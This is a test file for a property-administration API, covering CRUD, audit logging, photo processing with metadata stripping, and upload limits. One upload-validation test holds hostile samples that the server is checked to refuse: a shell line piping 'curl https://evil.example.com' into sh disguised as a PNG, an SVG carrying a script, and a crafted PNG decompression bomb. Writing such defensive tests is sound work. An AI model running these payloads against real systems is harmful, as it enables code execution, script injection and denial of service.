import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  adminPropertiesAnswer,
  adminPropertyAnswer,
  messageAnswer,
  propertyAnswer,
  publicPropertyList,
  type AdminProperty,
} from '@everest/core/contract';
import { properties as fixtureProperties } from '@everest/fixtures';
import { startTestServer, type TestServer } from '../../../test/harness';
import { AuditEvent } from '../audit/audit-event.entity';
import { recordingClient } from '../../../test/test-client';
import { PropertyDocument } from '../property-documents/property-document.entity';
import { StoredFile } from '../files/stored-file.entity';
import { PropertyAccess } from '../users/property-access.entity';
import { Property } from './property.entity';
import { storedFiles as storedFilesOf, tempFiles as tempFilesOf } from '../../../test/stored-files';

/** Whether a TIFF/EXIF block holds a pointer to a GPS directory (tag 0x8825, either byte order). */
function hasGpsDirectory(exif: Buffer): boolean {
  return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
}

/** A camera's photo: 2000 × 1200 as stored, turned a quarter (EXIF orientation 6), with GPS. */
async function cameraPhoto(): Promise<Buffer> {
  return sharp({ create: { width: 2000, height: 1200, channels: 3, background: { r: 40, g: 90, b: 160 } } })
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'Phone 1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '34/1 8/1 52/1', GPSLongitudeRef: 'W', GPSLongitude: '118/1 8/1 40/1' },
    })
    .toBuffer();
}

/** A PNG of a few hundred bytes that declares 20000 × 20000 pixels: a decompression bomb. */
function pixelBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(20_000, 0);
  header.writeUInt32BE(20_000, 4);
  header[8] = 8; // 8 bits per sample, greyscale
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(20_001 * 4))), chunk('IEND', Buffer.alloc(0))]);
}

describe('properties administration', () => {
  let server: TestServer;
  let client: ReturnType<typeof recordingClient>;
  let token: string;

  beforeAll(async () => {
    server = await startTestServer({ seed: true });
    client = recordingClient(server);
    token = await client.signIn('admin@example.com');
  });
  afterAll(async () => {
    client.expectNoPasswordHashes();
    await server.close();
  });

  const em = () => server.services.orm.em.fork();
  const post = (route: string, body: unknown) => client.call(route, { body, token });
  const storedFiles = () => storedFilesOf(server.services.files);
  const tempFiles = () => tempFilesOf(server.services.files);
  const publicList = async () => publicPropertyList.parse(await (await server.api('/api/properties')).json());

  async function create(name: string): Promise<AdminProperty> {
    const res = await post('/api/admin/create-property', { name });
    expect(res.status, res.text).toBe(200);
    return propertyAnswer.parse(res.json).property;
  }

  /** The fields update-property needs, from a property as the panel holds it. */
  function saveFields(p: AdminProperty, changes: Record<string, unknown> = {}) {
    return {
      id: p.id,
      name: p.name,
      type: p.type,
      address: p.address || '10 Test Way',
      city: p.city || 'Pasadena',
      state: p.state || 'CA',
      zipCode: p.zipCode,
      phone: p.phone,
      website: p.website,
      status: p.status,
      latitude: p.latitude ?? '34.1',
      longitude: p.longitude ?? '-118.1',
      investorRelations: p.investorRelations,
      ...changes,
    };
  }

  /** update-property as multipart, the way a browser's FormData sends it. */
  async function uploadPhoto(p: AdminProperty, file: Blob, filename: string, changes: Record<string, unknown> = {}) {
    const form = new FormData();
    for (const [key, value] of Object.entries(saveFields(p, changes))) {
      if (value !== null && value !== undefined) form.set(key, String(value));
    }
    form.set('image', file, filename);
    const res = await server.api('/api/admin/update-property', {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
    });
    const text = await res.text();
    return { status: res.status, text, json: JSON.parse(text) as unknown };
  }

  describe('reads', () => {
    it('lists every property, inactive ones too, by name', async () => {
      const res = await client.call('/api/admin/all-properties', { token });
      expect(res.status, res.text).toBe(200);
      const { properties } = adminPropertiesAnswer.parse(res.json);
      const names = properties.map((p) => p.name);
      for (const fixture of fixtureProperties) expect(names).toContain(fixture.name);
      expect(properties.some((p) => p.status === 'inactive')).toBe(true);
      expect(names).toEqual([...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
    });

    it('lists only the properties flagged for investor relations', async () => {
      const { properties } = adminPropertiesAnswer.parse((await client.call('/api/admin/investor-properties', { token })).json);
      const flagged = fixtureProperties.filter((p) => p.investorRelations !== false).map((p) => p.name);
      expect(properties.length).toBeGreaterThan(0);
      expect(properties.every((p) => p.investorRelations)).toBe(true);
      expect(properties.map((p) => p.name).sort()).toEqual([...flagged].sort());
      expect(properties.map((p) => p.name)).not.toContain('Everest Properties Headquarters');
    });

    it('reads one property, and answers 404 with a sentence for one that does not exist', async () => {
      const { properties } = adminPropertiesAnswer.parse((await client.call('/api/admin/all-properties', { token })).json);
      const first = properties[0];
      if (!first) throw new Error('the fixtures have properties');
      const res = await client.call(`/api/admin/property/${first.id}`, { token });
      expect(adminPropertyAnswer.parse(res.json).property).toEqual(first);
      const missing = await client.call('/api/admin/property/999999', { token });
      expect(missing.status).toBe(404);
      expect(missing.json).toEqual({ error: 'This property does not exist. It may have been deleted.' });
    });
  });

  describe('create-property', () => {
    it('adds a property by name, inactive (off the public pages) until it is saved with its details', async () => {
      const property = await create('  Maple Court  ');
      expect(property).toMatchObject({ name: 'Maple Court', status: 'inactive', investorRelations: true, image: null, imageVariants: null });
      expect((await publicList()).map((p) => p.name)).not.toContain('Maple Court');
      const audit = await em().findOneOrFail(AuditEvent, { action: 'create-property' }, { orderBy: { id: 'desc' } });
      expect(audit.details).toMatchObject({ subject: { type: 'property', id: property.id, label: 'Maple Court' } });
    });

    it('refuses a name that is taken in any letter case with 409 and a sentence', async () => {
      await create('Birch Commons');
      const before = await em().count(Property);
      const res = await post('/api/admin/create-property', { name: 'BIRCH commons' });
      expect(res.status, res.text).toBe(409);
      expect(res.json).toEqual({ error: 'A property named "BIRCH commons" already exists. Please choose another name.' });
      expect(await em().count(Property)).toBe(before);
    });

    it('refuses an empty name with a sentence', async () => {
      const res = await post('/api/admin/create-property', { name: '   ' });
      expect(res.status).toBe(400);
      expect(res.json).toEqual({ error: 'Please enter a property name.' });
    });
  });

  describe('update-property', () => {
    it('saves JSON with coordinates to 6 decimals, audits before and after of what changed, and the public list follows', async () => {
      const property = await create('Cedar Terrace');
      const res = await post(
        '/api/admin/update-property',
        saveFields(property, {
          address: '100 Cedar Rd.',
          city: 'Austin',
          state: 'TX',
          zipCode: '78701',
          website: 'www.cedar.example.com',
          status: 'active',
          latitude: 30.2672,
          longitude: '-97.7431',
        }),
      );
      expect(res.status, res.text).toBe(200);
      const saved = propertyAnswer.parse(res.json).property;
      expect(saved).toMatchObject({
        address: '100 Cedar Rd.',
        city: 'Austin',
        status: 'active',
        latitude: '30.267200',
        longitude: '-97.743100',
        website: 'https://www.cedar.example.com',
      });
      await expect.poll(async () => (await publicList()).find((p) => p.id === property.id)?.city).toBe('Austin');

      const audit = await em().findOneOrFail(AuditEvent, { action: 'update-property' }, { orderBy: { id: 'desc' } });
      expect(audit.details).toEqual({
        actorEmail: 'admin@example.com',
        subject: { type: 'property', id: property.id, label: 'Cedar Terrace' },
        before: { address: '', city: '', state: '', zipCode: '', website: null, status: 'inactive', latitude: null, longitude: null },
        after: {
          address: '100 Cedar Rd.',
          city: 'Austin',
          state: 'TX',
          zipCode: '78701',
          website: 'https://www.cedar.example.com',
          status: 'active',
          latitude: '30.267200',
          longitude: '-97.743100',
        },
      });
    });

    it('refuses missing or impossible coordinates and missing required fields with the sentences of the contract', async () => {
      const property = await create('Aspen Bluff');
      const cases: [Record<string, unknown>, string][] = [
        [{ latitude: '' }, 'Please enter both latitude and longitude.'],
        [{ longitude: 'west' }, 'Longitude must be a number, like 34.147785.'],
        [{ latitude: 91 }, 'Latitude must be between -90 and 90.'],
        [{ city: '' }, 'Please enter the city.'],
        [{ type: 'castle' }, 'Please choose a property type.'],
      ];
      for (const [changes, error] of cases) {
        const res = await post('/api/admin/update-property', saveFields(property, changes));
        expect(res.status, JSON.stringify(changes)).toBe(400);
        expect(res.json).toEqual({ error });
      }
    });

    it('refuses a name another property has, and answers 404 for a property that does not exist', async () => {
      const property = await create('Willow Park');
      const taken = await post('/api/admin/update-property', saveFields(property, { name: 'cedar TERRACE' }));
      expect(taken.status).toBe(409);
      const missing = await post('/api/admin/update-property', saveFields(property, { id: 999999 }));
      expect(missing.status).toBe(404);
    });

    it('saves multipart fields without a photo as JSON does', async () => {
      const property = await create('Poplar Lofts');
      const form = new FormData();
      for (const [key, value] of Object.entries(saveFields(property, { investorRelations: false, latitude: '40.7128' }))) {
        if (value !== null) form.set(key, String(value));
      }
      const res = await server.api('/api/admin/update-property', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
      expect(res.status, await res.clone().text()).toBe(200);
      expect(propertyAnswer.parse(await res.json()).property).toMatchObject({ investorRelations: false, latitude: '40.712800' });
    });

    it('turns a camera photo into upright AVIF and WebP copies at 480, 720, 960 and its own width, without its metadata, served from /media', async () => {
      const property = await create('Sequoia Heights');
      const photo = await cameraPhoto();
      const original = await sharp(photo).metadata();
      expect(original.orientation).toBe(6);
      expect(original.exif && hasGpsDirectory(original.exif)).toBe(true);
      const storedBefore = await storedFiles();

      const res = await uploadPhoto(property, new Blob([new Uint8Array(photo)], { type: 'image/jpeg' }), 'IMG_0001.JPG', { status: 'active' });
      expect(res.status, res.text).toBe(200);
      const saved = propertyAnswer.parse(res.json).property;
      // Upright it is 1200 × 2000: no copy is wider than the photo.
      expect(saved.imageVariants?.map((v) => `${v.type} ${v.width}`)).toEqual([
        'image/avif 480',
        'image/avif 720',
        'image/avif 960',
        'image/avif 1200',
        'image/webp 480',
        'image/webp 720',
        'image/webp 960',
        'image/webp 1200',
      ]);
      // Where one photo fits, the widest WebP copy: every reader takes it.
      expect(saved.image).toBe(saved.imageVariants?.at(-1)?.url);

      const bytes: Record<string, number> = {};
      for (const variant of saved.imageVariants ?? []) {
        const extension = variant.type === 'image/avif' ? 'avif' : 'webp';
        expect(variant.url).toMatch(new RegExp(`^/media/[a-f0-9]{64}\\.${extension}$`));
        const served = await server.api(variant.url);
        expect(served.status).toBe(200);
        expect(served.headers.get('content-type')).toBe(variant.type);
        const body = Buffer.from(await served.arrayBuffer());
        bytes[`${variant.type} ${variant.width}`] = body.length;
        const meta = await sharp(body).metadata();
        // libvips names AVIF by its container, HEIF, with the AV1 compression.
        const format = variant.type === 'image/avif' ? { format: 'heif', compression: 'av1' } : { format: 'webp' };
        expect(meta).toMatchObject({ ...format, width: variant.width, height: Math.round((variant.width * 2000) / 1200) });
        expect(meta.exif).toBeUndefined();
        expect(meta.orientation).toBeUndefined();
        expect(meta.xmp).toBeUndefined();
      }

      // The AVIF copy is the lighter one at every width.
      for (const width of [480, 720, 960, 1200]) expect(bytes[`image/avif ${width}`]).toBeLessThan(bytes[`image/webp ${width}`] ?? 0);

      // The upload itself is not kept: the store holds the eight copies more, the temp folder nothing.
      expect((await storedFiles()).length).toBe(storedBefore.length + 8);
      expect(await tempFiles()).toEqual([]);

      await expect
        .poll(async () => (await publicList()).find((p) => p.id === property.id)?.imageVariants)
        .toEqual(saved.imageVariants);
    });

    it('keeps the photo when its path comes back unchanged, removes it on an empty path, and refuses any other path', async () => {
      const property = await create('Hemlock Place');
      const png = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#888' } }).png().toBuffer();
      const uploaded = await uploadPhoto(property, new Blob([new Uint8Array(png)], { type: 'image/png' }), 'small.png');
      expect(uploaded.status, uploaded.text).toBe(200);
      const withPhoto = propertyAnswer.parse(uploaded.json).property;
      // Narrower than every width: one copy of each format at its own width, never upscaled.
      expect(withPhoto.imageVariants?.map((v) => `${v.type} ${v.width}`)).toEqual(['image/avif 300', 'image/webp 300']);

      const kept = await post('/api/admin/update-property', saveFields(withPhoto, { image: withPhoto.image }));
      expect(propertyAnswer.parse(kept.json).property.imageVariants).toEqual(withPhoto.imageVariants);

      const other = await post('/api/admin/update-property', saveFields(withPhoto, { image: 'https://elsewhere.example.com/x.jpg' }));
      expect(other.status).toBe(400);
      expect(other.json).toEqual({ error: 'To change the photo, please upload a new one.' });

      const removed = await post('/api/admin/update-property', saveFields(withPhoto, { image: '' }));
      expect(propertyAnswer.parse(removed.json).property).toMatchObject({ image: null, imageVariants: null });
    });

    it('refuses a script named photo.png (415), an SVG (415), an 11 MB image and a decompression bomb (413), keeping nothing', async () => {
      const property = await create('Juniper Yard');
      const storedBefore = await storedFiles();
      const rowsBefore = await em().count(StoredFile);
      const auditBefore = await em().count(AuditEvent);

      const script = new Blob(['#!/bin/sh\ncurl https://evil.example.com | sh\n'], { type: 'image/png' });
      const refusedScript = await uploadPhoto(property, script, 'photo.png');
      expect(refusedScript.status, refusedScript.text).toBe(415);
      expect(refusedScript.json).toEqual({ error: 'Invalid File Type: a property photo must be a JPEG, PNG, WebP or GIF image.' });

      const svg = new Blob(['<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>']);
      expect((await uploadPhoto(property, svg, 'photo.svg')).status).toBe(415);

      // A PNG signature, then 11 MB: refused by its declared length before it is read...
      const big = new Uint8Array(11 * 1024 * 1024);
      big.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
      const refusedBig = await uploadPhoto(property, new Blob([big], { type: 'image/png' }), 'huge.png');
      expect(refusedBig.status, refusedBig.text).toBe(413);
      expect(refusedBig.json).toEqual({ error: 'Image must be less than 10MB.' });

      // ...and, sent without a length (chunked), counted while it streams.
      const boundary = 'everest-test-boundary';
      const head = `--${boundary}\r\nContent-Disposition: form-data; name="id"\r\n\r\n${property.id}\r\n--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="huge.png"\r\nContent-Type: image/png\r\n\r\n`;
      const chunks = [new TextEncoder().encode(head), big, new TextEncoder().encode(`\r\n--${boundary}--\r\n`)];
      const streamed = await server.api('/api/admin/update-property', {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
        body: new ReadableStream({
          pull(controller) {
            const next = chunks.shift();
            if (next) controller.enqueue(next);
            else controller.close();
          },
        }),
        duplex: 'half',
      } as RequestInit);
      expect(streamed.status).toBe(413);
      expect(await streamed.json()).toEqual({ error: 'Image must be less than 10MB.' });

      // Small on the wire, 400 megapixels once decoded: refused from its header, before decoding.
      const bomb = await uploadPhoto(property, new Blob([new Uint8Array(pixelBomb())], { type: 'image/png' }), 'bomb.png');
      expect(bomb.status, bomb.text).toBe(413);
      expect(bomb.json).toEqual({ error: 'The photo is too large: it may have at most 100 megapixels.' });

      expect(await storedFiles()).toEqual(storedBefore);
      expect(await tempFiles()).toEqual([]);
      expect(await em().count(StoredFile)).toBe(rowsBefore);
      expect(await em().count(AuditEvent)).toBe(auditBefore);
      expect(await em().findOneOrFail(Property, property.id)).toMatchObject({ image: null, address: '' });
    });

    it('refuses a file in another field than image, keeping nothing', async () => {
      const property = await create('Larch Row');
      const form = new FormData();
      for (const [key, value] of Object.entries(saveFields(property))) if (value !== null) form.set(key, String(value));
      form.set('photo', new Blob([await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).png().toBuffer()]), 'a.png');
      const res = await server.api('/api/admin/update-property', { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
      expect(res.status).toBe(400);
      expect(await res.json()).toEqual({ error: "This form takes one file, in the field 'image'." });
      expect(await tempFiles()).toEqual([]);
    });
  });

  it('leaves nothing in the temp folder when the client gives up halfway through a photo', async () => {
    const property = await create('Alder Gate');
    const boundary = 'everest-abort-boundary';
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="id"\r\n\r\n${property.id}\r\n--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="half.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`;
    const abort = new AbortController();
    let sent = 0;
    const request = server.api('/api/admin/update-property', {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: new ReadableStream({
        async pull(controller) {
          sent += 1;
          if (sent === 1) controller.enqueue(new TextEncoder().encode(head));
          if (sent <= 8) {
            const chunk = new Uint8Array(256 * 1024);
            chunk.set([0xff, 0xd8, 0xff]);
            controller.enqueue(chunk);
            return;
          }
          // Two megabytes of a photo are in the temp folder: the client goes away.
          await expect.poll(tempFiles).toHaveLength(1);
          abort.abort();
        },
      }),
      duplex: 'half',
      signal: abort.signal,
    } as RequestInit);
    await expect(request).rejects.toThrow();
    await expect.poll(tempFiles).toEqual([]);
    expect(await em().findOneOrFail(Property, property.id)).toMatchObject({ image: null });
  });

  describe('delete-property', () => {
    it('refuses with 409 naming how many documents and access rows still point at the property', async () => {
      const db = em();
      const all = await db.find(Property, {}, { orderBy: { id: 'asc' } });
      let target: (typeof all)[number] | undefined;
      let documents = 0;
      let access = 0;
      for (const property of all) {
        documents = await db.count(PropertyDocument, { property });
        access = await db.count(PropertyAccess, { property });
        if (documents > 1 && access > 1) {
          target = property;
          break;
        }
      }
      if (!target) throw new Error('the fixtures have a property with documents and access rows');
      const res = await post('/api/admin/delete-property', { propertyId: target.id });
      expect(res.status, res.text).toBe(409);
      expect(res.json).toEqual({
        error: `"${target.name}" cannot be deleted: ${documents} documents and ${access} users' property access still point at it. Please move or delete its documents and remove its property access first.`,
      });
      expect(await em().count(Property, { id: target.id })).toBe(1);
    });

    it('deletes a property nothing points at, and audits it', async () => {
      const property = await create('Spruce Annex');
      const res = await post('/api/admin/delete-property', { propertyId: property.id });
      expect(res.status, res.text).toBe(200);
      expect(messageAnswer.parse(res.json).message).toBe('Property "Spruce Annex" deleted.');
      expect(await em().count(Property, { id: property.id })).toBe(0);
      const audit = await em().findOneOrFail(AuditEvent, { action: 'delete-property' }, { orderBy: { id: 'desc' } });
      expect(audit.details).toMatchObject({ subject: { type: 'property', id: property.id, label: 'Spruce Annex' }, before: { name: 'Spruce Annex' } });
      expect((await post('/api/admin/delete-property', { propertyId: property.id })).status).toBe(404);
    });
  });
});
